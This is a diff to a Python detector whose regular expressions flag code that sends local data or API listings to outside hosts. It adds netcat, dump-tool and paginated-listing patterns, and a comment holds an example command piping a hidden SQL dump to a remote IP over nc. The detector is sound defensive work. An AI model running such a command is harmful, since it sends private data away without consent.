@@ -60,10 +60,13 @@ _USED_NOT_GATHERED = re.compile(
 #: Data read on this side: a file opened or read, a database or a query's rows, the container engine, a jq filter, a
 #: system, data or home folder named.
 _LOCAL_DATA = re.compile(
-    r"\bopen\(|read_text|read_bytes|\bcat\s|sqlite3|\bpsql\b|\bmysql\b|SELECT\s|\.fetchall|docker|\.find\(|Path\("
+    r"\bopen\(|read_text|read_bytes|\bcat\s|sqlite3|\bpsql\b|\bmysql\b|\b(?:mysql|pg_)dump(?:all)?\b|SELECT\s|\.fetchall"
+    r"|docker|\.find\(|Path\("
     r"|\bjq\b|\.db\b|[\s\"'](?:~)?/(?:var|etc|srv|home|root|opt|data|mnt|config)/",
     re.IGNORECASE,
 )
+#: An API client's listing walked page by page (`stripe.Charge.list(…).auto_paging_iter()`).
+_CLIENT_LISTING = re.compile(r"\.list\([^)\n]*\)\s*\.auto_paging_iter\(|\.list_all\(|\.iter_all\(")
 #: Records collected: a loop, a page walk, a query, a list grown item by item, a jq filter over a listing, an API's
 #: bulk export (`/api/v1/chats/all/db`, `/export`).
 _COLLECTED = re.compile(
@@ -100,6 +103,8 @@ def records_sent_away(code: str) -> str | None:
     dropped = {registered_domain(h) for h in away}
     if any(registered_domain(h) not in dropped for h in url_hosts(code)) or _LOCAL_DATA.search(code):
         return away[0]
+    if _CLIENT_LISTING.search(code):
+        return away[0]  # (records an API client lists: `stripe.Charge.list(…).auto_paging_iter()`)
     return None
 
 
@@ -121,9 +126,12 @@ _BARE_DESTINATION = re.compile(
     rf"\b(?:rsync|scp|sftp)\b[^\n]*?(?:\\\n[^\n]*?)*\s[\w.-]+@{_IPV4}:"
     rf"|\|\s*ssh\b[^\n]*?(?:\\\n[^\n]*?)*\s(?:[\w.-]+@)?{_IPV4}\b"
     rf"|\|\s*(?:nc|ncat|netcat)\b[^\n|]*?\b{_IPV4}\b"
+    # (a file fed to netcat: `nc -w 5 203.0.113.120 9000 < /tmp/.wc.sql`)
+    rf"|\b(?:nc|ncat|netcat)\b[^\n|<]*?\b{_IPV4}\b[^\n|<]*<\s*\S"
     rf"|(?:create_connection|\.connect)\(\s*\(\s*[\"']{_IPV4}[\"']"
 )
-_COPIES_OR_STREAMS = re.compile(r"sendall|\.send\(|\brsync\b|\bscp\b|\bsftp\b|\|\s*ssh\b|\|\s*(?:nc|ncat|netcat)\b")
+_COPIES_OR_STREAMS = re.compile(r"sendall|\.send\(|\brsync\b|\bscp\b|\bsftp\b|\|\s*ssh\b|\|\s*(?:nc|ncat|netcat)\b"
+                                r"|\b(?:nc|ncat|netcat)\b[^\n|<]*<\s*\S")
 
 
 def ftp_upload_away(code: str) -> str | None:
